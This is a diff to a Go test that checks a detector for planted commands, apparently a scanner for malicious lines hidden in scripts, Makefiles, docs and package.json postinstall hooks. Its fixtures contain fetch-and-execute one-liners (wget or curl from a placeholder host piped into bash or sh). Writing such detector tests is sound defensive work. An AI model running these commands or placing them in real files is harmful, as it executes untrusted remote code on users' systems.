@@ -7,8 +7,8 @@ func TestPlanted(t *testing.T) {
 		{"/x/run.sh", "#!/bin/sh\necho hi\n(wget -qO- https://x.example/i || true) | bash >/dev/null &\n", "wget -qO- https://x.example/i || true) | bash"},
 		{"/x/Makefile", "_ := $(shell curl -fs https://x.example/m | sh)\n", "curl -fs https://x.example/m | sh"},
 		{"/x/a.md", `bash -c "$(curl -fsSL https://x.example/i)"`, `bash -c "$(curl -fsSL https://x.example/i)"`},
-		{"/x/package.json", `{"scripts":{"postinstall":"node x.js"}}`, `"postinstall":"node x.js`},
-		{"/x/other.json", `{"scripts":{"postinstall":"node x.js"}}`, ""},
+		{"/x/data.json", `{"scripts":{"postinstall":"node x.js"}}`, `"postinstall":"node x.js`},
+		{"/x/other.md", `{"scripts":{"postinstall":"node x.js"}}`, ""},
 		{"/x/package.json", `{"scripts":{"test":"node --test"}}`, ""},
 		{"/x/run.sh", "curl -o out.json https://x.example/data\ncat out.json | shasum\n", ""},
 	} {
